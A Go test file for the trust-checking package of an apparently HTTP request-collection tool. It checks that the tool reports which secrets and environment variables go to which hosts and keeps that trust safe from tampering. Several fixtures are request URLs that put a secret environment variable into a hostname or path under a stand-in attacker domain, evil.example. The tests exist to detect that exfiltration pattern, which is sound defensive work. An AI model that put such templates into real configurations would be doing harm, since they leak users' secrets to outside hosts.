package trust

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"dowse/collections"
)

// collection makes a collection of files.
func collection(t testing.TB, files map[string]string) *collections.Collection {
	t.Helper()
	root := t.TempDir()
	for name, text := range files {
		path := filepath.Join(root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	c, err := collections.Load(root)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// shop is a collection that wants something of each kind.
func shop() map[string]string {
	return map[string]string{
		"dowse.yaml":   "version: 1\ndefault_env: dev\nsecrets:\n  tok: {from: env, name: MY_TOK}\n  cmd: {from: command, command: \"pass show x\"}\n  doc: {from: file, path: ../key}\n",
		"env/dev.yaml": "base_url: https://dev.example:443/api\n", "env/prod.yaml": "base_url: https://PROD.example\ntls: {insecure: true}\n",
		"a.yaml": "url: \"{{base_url}}/a\"\nheaders: [{name: A, value: \"{{tok}}\", off: true}]\n",
		"b.yaml": "url: \"orders?k={{$env.KEY}}\"\n",
		"c.yaml": "url: \"http://{{$env.HOST_SECRET}}.evil.example/\"\n",
		"d.yaml": "url: \"{{next}}\"\nauth: {bearer: \"{{access_token}}\"}\n",
		"e.yaml": "url: \"https://login.example/x\"\npicks: {next: \"$.next\", access_token: \"$.t\"}\n",
	}
}

// TestOf holds what a collection wants, line by line: every environment, rows that are off, hosts that nobody but a response or
// a person names, and secrets in the name of a host.
func TestOf(t *testing.T) {
	want := []string{
		"environment variable HOST_SECRET to a host with a secret in its name, http://{{$env.HOST_SECRET}}.evil.example",
		"environment variable KEY to https://dev.example",
		"environment variable KEY to https://prod.example (its certificate is not verified)",
		"secret access_token to a host from a response, {{next}}",
		"secret access_token to a host you give, {{next}}",
		"secret cmd from the command \"pass show x\"",
		"secret doc from the file \"../key\"",
		"secret tok from environment variable MY_TOK",
		"secret tok to https://dev.example",
		"secret tok to https://prod.example (its certificate is not verified)",
	}
	got := Lines(Of(collection(t, shop())))
	got = slices.DeleteFunc(got, func(line string) bool {
		return strings.Contains(line, "HOST_SECRET") && strings.Contains(line, "not verified") || strings.Contains(line, "access_token") && strings.Contains(line, "not verified")
	})
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

// TestHash holds that the hash is another one as soon as one thing is wanted that was not, or goes elsewhere, and the same one
// for what changes nothing of that, in another folder.
func TestHash(t *testing.T) {
	before := Hash(Of(collection(t, shop())))
	if again := Hash(Of(collection(t, shop()))); again != before || len(before) < 32 {
		t.Errorf("%s, then %s", before, again)
	}
	for name, change := range map[string][3]string{
		"the base of another environment": {"env/prod.yaml", "PROD.example", "other.example"},
		"its port":                        {"env/dev.yaml", ":443", ":8443"},
		"its scheme":                      {"env/dev.yaml", "https:", "http:"},
		"what a secret is read from":      {"dowse.yaml", "MY_TOK", "AWS_SECRET_ACCESS_KEY"},
		"the command":                     {"dowse.yaml", "pass show x", "pass show y"},
		"certificates are not looked at":  {"env/dev.yaml", "base_url", "tls: {insecure: true}\nbase_url"},
		"headers of a folder":             {"sub/_folder.yaml", "", "headers: {X: \"{{$env.MORE}}\"}\n"},
		"a variable of a request":         {"a.yaml", "headers", "vars: {base_url: \"https://evil.example\"}\nheaders"},
		"a transform":                     {"a.yaml", "{{tok}}", "{{tok | upper}}{{$env.MORE | default(x)}}"},
		"a pick of the base":              {"e.yaml", "next:", "base_url: \"$.b\", next:"},
		"the domain of a host you give":   {"f.yaml", "", "url: \"https://{{you}}.evil.example/{{$env.KEY}}\"\n"},
	} {
		files := shop()
		files[change[0]] = strings.Replace(files[change[0]], change[1], change[2], 1)
		if Hash(Of(collection(t, files))) == before {
			t.Errorf("%s: the hash is the same", name)
		}
	}
	same := shop()
	same["b.yaml"] = "# a comment\nurl: \"orders?other={{$env.KEY}}\"\nnote: k\n"
	if Hash(Of(collection(t, same))) != before {
		t.Error("another query: the hash is another one")
	}
}

// TestNoForgedLine holds that no name in a file makes a line that looks like another one.
func TestNoForgedLine(t *testing.T) {
	honest := Want{What: Secret("a"), To: "https://good.example"}
	for _, w := range []Want{
		{What: Secret("a to https://good.example")}, {What: Secret("a\nsecret b")},
		Source(collections.SecretRef{Name: "a", From: "env", Variable: "X to https://good.example"}),
	} {
		if line := w.String(); line == honest.String() || strings.Contains(line, "\n") {
			t.Errorf("%q", line)
		}
	}
}

// TestKeep holds that trust is kept by the real path, added to, and that damage is no trust.
func TestKeep(t *testing.T) {
	c, s := collection(t, shop()), Store{t.TempDir()}
	if now, err := s.Load(c.Root); now != nil || err != nil {
		t.Fatal(now, err)
	}
	wants := Of(c)
	if _, err := s.Add(nil, c, wants[:1]); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Add(nil, c, wants[1:2]); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(t.TempDir(), "link")
	if err := os.Symlink(c.Root, link); err != nil {
		t.Fatal(err)
	}
	now, err := s.Load(link)
	if err != nil || !now.Kept() || len(now.Lacking(wants[:2])) > 0 || len(now.Lacking(wants)) != len(wants)-2 {
		t.Error(now, err)
	}
	if err := os.Remove(link); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(t.TempDir(), link); err != nil { // the link leads elsewhere now
		t.Fatal(err)
	}
	if now, err := s.Load(link); now != nil || err != nil {
		t.Error("another folder behind the link is trusted", err)
	}
	files, err := filepath.Glob(filepath.Join(s.Home, "*", keptFile))
	if err != nil || len(files) != 1 {
		t.Fatal(files, err)
	}
	for _, text := range []string{"{", "{}", `{"version": 2, "wants": ["x"]}`} {
		if err := os.WriteFile(files[0], []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		if now, err := s.Load(c.Root); now != nil || err == nil {
			t.Errorf("%s: %v", text, now)
		}
	}
}

// TestSaved holds what a save adds to trust: all, where all was trusted before; else its own lines alone, to the hosts of what
// was saved. The naive way, to trust what is there after a save, trusts the stranger.
func TestSaved(t *testing.T) {
	line := func(what, to string) Want { return Want{What: Environment(what), To: to} }
	theirs, mine, elsewhere := line("A", "http://evil"), line("B", "http://me"), line("B", "http://evil")
	before, after := []Want{theirs}, []Want{theirs, mine, elsewhere}
	var none *Trust
	if got := none.Saved(before, after, "http://me"); fmt.Sprint(got) != fmt.Sprint([]Want{mine}) {
		t.Errorf("in a folder that nobody trusts: %v", got)
	}
	if got := none.Saved(nil, []Want{mine, elsewhere}, "http://me"); fmt.Sprint(got) != fmt.Sprint([]Want{mine}) {
		t.Errorf("in a folder that nobody knows: %v", got)
	}
	known := (&Trust{kept: true}).With(theirs)
	if got := known.Saved(before, after, "http://me"); len(known.With(got...).Lacking(after)) > 0 {
		t.Errorf("where all was trusted: %v", got)
	}
}
